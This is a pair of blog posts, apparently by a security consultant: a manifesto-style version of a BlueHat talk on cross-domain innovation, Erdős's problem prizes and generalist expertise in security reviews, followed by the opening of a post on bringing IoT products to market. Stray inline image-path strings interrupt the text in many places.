Thursday, October 9

What I talk about when I talk about Consulting

Note: this post has very little to do with Atredis as company. The only relevance being a part of a consultancy has on this tirade is that its existence has positioned me to be invited back to BlueHat for a second year in a row to talk about whatever seems interesting to me at the time.

This post is a textual version of my talk atMicrosoft HQ and honestly more of a manifesto. It intends to define another way to explore your company, another way to look at technological expertise and another path to approach security as a fluid entity, or at the very least, track down Godot.

So, years ago I used to work at the Mitre Corporation. For the uninitiated to the realm, Mitre isa Federally-funded Research and Development Center and can be thought of as a pseudo-government think tank for pseudo-applied research constrained to non-profit status. I entered that organization with a solid career background as a developer specializing in crypto implementations, artificial intelligence and applied game theory. I was quickly tasked, at least in the Mitre sense of the word, with "do something cool and expand yourself". In a decidedly rash "because why the hell not" moment, I picked mobile security and human interactions as my paths of exploration. While I'm sure we will meander into security before the end of this diatribe, I'd oddly enough like to start with problems from the other space.

Specifically at Mitre, I looked at how to foster cross-domain innovation. I basically spent a couple years looking at how new ideas blossom when domain experts from disparate verticals interact and share conceptual structures. I spent weeks modeling building layouts and walking paths trying to ascertain how knowledge spread across the campus. I mapped social networks and interaction structures, I explored forced office mate collaborations and I basically geeked hard on graph theory. I wanted to know how small situational changes could force "Dr. Satellite WaveForm Guru" to stop and share a cup of coffee with "Intern Physicist" and for some reason I always expected robots to fall out of the conversation. Awesome laser wielding autonomous robots that would simply self design more robots and blow things up withlasers while rad 80’s metal blared in the background. I guess I had a thing for robots.

I also wanted data, mounds and mounds of data, to fit into beautiful Gephi graphs that could be analyzed and improved upon. I wanted innovation efficiency. Maybe I thought that the end game was me sitting back in some darkened hivemind control room, watching structured magic happen in realtime, I really don't recall.

I thought that if we could simply control the environment with enough scientific accuracy, we could control that initial "spark" that so many startup books lauded as the beginning of massive scientific breakthroughs. Stated simply, I wanted to play God to a campus of Mensa-level experts. What a surprise it didn't work right? Solving the social graph is a slightly harder problem than raw data collection, who knew?

I did walk away with some insight, that while obvious to most people, had eluded me in the depths of my contrivances. A happenstance chat between two people is almost never really an accident, and it takes a catalyst stronger than a once in an occasional espresso to bond two elements from opposing sides of the periodic table.

In my case, the best catalyst was a bonding agent delivered in the form of an inquisitive procrastinator. An outgoing person who would shirk their own responsibilities and deadlines to randomly walk around and ask people "whatare you working on". None of the managers could facilitate these meaningful interactions because they had little insight into what other teams were doing outside of their own silos, and were too damn busy “Getting Things Done”.

A lowly slacker barely hanging onto gainful employment, though, could cross-pollinate like mad. Randomly walking around the building and asking people "whats up, what are you working on?” and then accidentally sharing others problems during small talk. Someone doing that was pure innovation gold. That person was also a huge burden to the immediate bottom line of the company and easily dismissed as a dead end to a small organization. An unrecognized hero that all too often is left with a pink slip and some much needed "forced vacation". [Shawn says: see also Maclolm Gladwell's "The Tipping Point", on influencers and hubs.]

Let's pause that line of thought for a second and chat about why I sometimes look at KatieMoussouris as the Paul Erdös of Microsoft. If you don't catch it, we will un-pause this conversation when I start talking about degenerates with spray paint.
Mathematician Paul Erdös. Knuth is his homeboy.
Paul Erdös was a brilliant mathematician who solved no small amount of insanely difficult problems, but that's not what he is really known for. He crossed into the general public consciousness for his prolific collaboration across fields, he is more than 15-minute Andy Warhol Famous for the Erdös Number. The Kevin Bacon of Academia in a sense.

There are books and websites on this construct, so I'll let the one person reading thisunfamiliar with the topic explore at their own pace because I don't care about the number either. I want to point out something less evident.

To some extent, Erdös created a bug bounty in academia. The impetus was vastly different, obviously. I can't speak for Katie or MS, but I don't think either of them wanted to offload problems that would be open and unsolved post personal demise for the simplistic sake of leaving nothing unknown and unexplained. I've never found a definitive source for his original construct, and have always assumed it was an amphetamine-fueled decision process wherein he thought "If I could only be more people, I could solve more problems". A "Fear and Loathing in Las Academia" path to cloning I guess.

Erdös attacked theproblem by offering small rewards to those that solved open problems he didn't have time or the mental faculty to tackle himself. He simply outsourcedproblem solving before there was a term for it. If inquiring minds want to know more, read "Erdös on Graphs" or anything about Fermat's last theorem both will expound upon the program. The problems were (and the open ones still are) immensely hard.

Take a look at the Collatz Conjecture, for example:
Take any natural number n. If n is even, divide it by 2 to get n/2, if n is odd multiply it by 3 and add 1 to obtain 3n+1. Repeat the process indefinitely. The conjecture is that no matter what number you start with, you will always eventually reach 1.
Paul Erdős said about the Collatz conjecture: "Mathematics is not yet readyfor such problems." He offered $500 USD for its solution
Simple, huh? As someone who has wasted a considerable amount of time contemplating this one, I welcome you to join the dark side. It is hard and you have loved ones and friends that need you more, but the outcome would be so fascinating, I really don’t mind you not having nights or weekends

An Erdös check isn't even the type of check you cash, actually.You frame that check and hang it on your office wall when Harvard offers you tenure for being an epic badass. Your prize is writing a page in the book of human knowledge. I might have a slight hero complex here.

Taking a step back though, all Erdös did was to entice random people from random spaces to attack a generic problem. This construct enabled unique points of view to descend upon the same problem space and interact. He seeded the coffee shop with talking points and smart people. He asked a couple of questions and in a sense played God with the outcome.

History and time actually solve the problems, building upon breakthrough after breakthrough. Fermat's Last Theorem itself was solved with a mix of pure innovation and branches of mathematics that are now foundational but were revolutionary or simply non-existent when Fermat trolled the world and much later when Erdos offered up a reward for the joke.
Pierre de Fermat, Legendary Troll
Treating exploration as foundational knowledge can be seen in most everywhere if you look, but nothing springs to my mind as a better exemplar than graffiti and streetart. It is a scene, a lifestyle, legally dubious and in our conversation, a collection of raw transitory data cataloging human interaction. It all starts with an empty wall and one after another people come along and tag it, expand upon it, connect the disparate parts and create a living entity of artistic expression. I guess it would be akin to free form jazz collaboration, but in this instance a city worker washes it away on a scheduled basis and the entire process cycles anew.
London Graffiti
Eyesore or museum quality, in this context we don't care about the transitory expression itself. We care about the process and the components that play the game. Every actor has a part in the whole and each person comes into the collaboration with a specific intent and a specific skill set. Every interaction becomes essential to the overall evolution of the art that exists and each artists specialty is a core component of the overall construct.

Let me say the same sentence again with slightly different actors:

Every interaction becomes essential to the overall evolution of the product that ships and each team specialty is a core feature of the overall ecosystem.If you just woke up from a nice nap with a nightmare about team meetings, I’m sorry and I’ll pause the metaphor break for a bit longer. Consider it a snooze button on the alarm clock of Windows Phone Bluetooth explorations because I want to talk about expertise first.

If I say Kasparov, you probably think about knights and blue mainframes,but let’s drop the mind games and focus on chess for a second. True and utter mastery from our perspective. Not infallible, but an expert by every definition I am aware of. It would be ludicrous to expect anyone in this room to beat a grand master at his or her own game (it could happen, but your ego aside please let me have this statement as fact). Best of 3, 7, 101. As long as we are in the game of chess Kasparov wins. But what if we switch to checkers? Theoretically your odds are better I guess given it is a divergent game, but the outcome is predictable.

What if we extrapolate this out to “all games” though? I’m going to go out on a limb and bet that at least one person reading this could beat Kasparov at Quidditch and probably half of us would win at Texas Hold ‘Em.
Gary Kasparov, sub-par Quidditch and Poker player
Expertise mixed with human nature tends to silo itself, specific and targeted perfection normally does not mix with well rounded knowledge. It’s the reason people group themselves by similar interest and it is the reason why my two scientists never made laser wielding robots at Starbucks.

But what if we replace Kasparov with von Neumann, a generally accepted “smart guy” and game theorist at heart. His perfection was not a single game, but the entire construct of a game. Dr. John would not have theskill depth to win against a master, but would understand the implications and theoretical correctness of every move, in every game. Except maybe Quidditch, but probably even that scenario he would see things subtly missed by the lay player. Master in none but “expert” in all? Not really, probably more appropriate to say master in none but meta-understanding in all. He couldn’t beat Kasparov, but he could enumerate where he and Kasparov made mistakes. In a way, he would be qualified to help train and guide a master.
John von Neumann, would build Quidditch state machine
This was a very long winded way of getting to my point. I want this for you. You are the Kasparov and the Scientist. You have teams that are immensely smart in specific domains and sub-domains and sub-sub-domains, you probably even have a couple slackers helping ideas spread (please don’t fire them, they are your revenue stream in 10 years). What I’m arguing for is a game theory bonding agent, one that can look across silo interactions internal to your products and across all of your competitors.

I want this for you because the realsecret is. They are not your competitors. You don’t compete, you innovate and build technology. Other companies do that as well and you share market space with them. Sure, quarterly profit margins make it feel like a race but the longer term reality is that you are responsible for making things better. That is your real place in the game, you construct the future. If you were simply competing, all your advertisements would look like political ads and read “We don’t suck as much as $Product_X”.

From a security perspective, internal teams can tell you exactly what is exposed within theconfines of their expertise. If those teams are looking at public security theater they can ensure you are not exposing anything documented with a CVE or any vulnerabilities frozen in YouTube presentations. This should be your base minimal expectation.

One last divergence before my parting thoughts:

Please, please, please don’t ever expect your people to “think outside of the box”.  You want experts and that saying is simply “marketechture” and “thinkfluence" bullshit. No one thinks well “outside of the box” because no one is an expert at something they are not an expert at.

All you get with that request is someone fumbling around and maybe getting lucky. Instead, bring an outsider into the process and expect to get another set of eyes on your problem from someone with a completely different view of the world. Someone with a (potentially lesser) expertise in a (potentially) much larger problem space. An outsider brings new context tothe thinking process, “thinking outside of the box” kills morale and wastes smart people on silly things.

Final tirade aside, if you want to know how your different silos interact within a product, you need someone who understands how that technology works. Generally, you want someone who understands all the technology at a less expert / more meta-theory level. Let that person force both expert teams into understanding consequences outside of their vertical.

If you want to know how your technology implementation compares to other companies selling products, look for someone who has an interest in the overall technologyspace and don’t try to force them into expertise. In AI I used to search for sub-optimal paths: problems with multiple answers wherein the selected solution was the closest to optimization within the computing constraints. Look for sub-optimal expertise, sometimes you don’t need a PhD for progress. You just need a really excited intern.(Unless it's one of those times you need a PhD).

Do you honestly want to know how your product is going to fare in the post ship-date real world? You need to understand every problem in your technology space, all of the problems in your vendors technology spaces and all of the potential problems from technology that might have conceptually portable attack scenarios.

Trying to secure Bluetooth? I’m sure you have hardened the driver against your hardware, but have you looked at porting all known RFID attacks to your implementation? Do you know what services other vendors expose at the unpaired level of discovery? Have you explored how IoT or RTOS based kernel attacks could be conceptually leveraged against your driver code? If you ever bring in consultants or employees to answer these overall questions andhave the realistic intent to use them for anything more than staff augmentation, you should ensure they will do this. You should ensure it excites them and that they want to do it.

Ok, so you really want to know how to leverage the process used by a good consultant?

Stop trying to make everyone an expert at a thing and start trying to make technology better. Period.

We don’t look at other companies as your competitors, we look at the meta case of “how do we make technology more secure by having fun and breaking things we admire”. You can do the samething, or you can outsource that to the sub-optimal-experts

We tend to continually learn a technology by looking at all implementations of it. We tend to start with cross domain similarities and extrapolate from there. We look for the general delta between our knowledge base and your product, and we try to minimize that delta.



(and I promised I would mention Godot in this diatribe, so… Godot)

Wednesday, October 8

Let's stop innovating failure

So today I’d like to posit some overall thoughts on the “Internet of Things”, specifically pointed at the innovation space and getting products to market. This is quite outside of my company’s normal wheelhouse, but I think our hands on perspective of whathits the streets (and our desks) will be unique enough to pique interest from a broader audience. For those in the security space, I guess I should apologize for the lack of direct exploitation techniques, but this diatribe is really meant for the broader group outside of our walls.

So, you (or your company) have a great idea to change the world and make a huge profit. First of all, congrats and good luck. All you have left to do is write some code, design some hardware and package it all together into an amazing widget. The only problem you face is a temporal one… if you thought of something, chances are others are also thinking about your problem, and hence the race to market begins.

Speaking of your market, my view is that it functions in 1 of 3 distinct ways:
  • You find yourself entering the market as a sole innovating product with no direct competitors
  • You have a unique and special flair for your product, but you are not alone in the space.
  • You are a big name vendor that is entering the space.

Realistically, the “big name vendor” should not be a separate bullet. Your specific product falls into either of the “novel” or “iterative” spaces listed, but your name and power come with some additional considerations. The new device you are shipping will benefit from your company name and the reputation you have with customers, but if the product fails you will see negative impacts outside of your space. Simply, if your newly enhanced smart TV ships with copious numbers of security flaws, that branding might negatively impact other business units.

For the “iterative” space, you will benefit from the general advertising across your competitive landscape. This effect should be considered cumulative, if not exponential, as the barrage of adverts self validates the product asneeded and required from the consumer view. Given you don’t have to sell the overall vision, your advertising tends to focus not on the overall technology but on your special sauce.

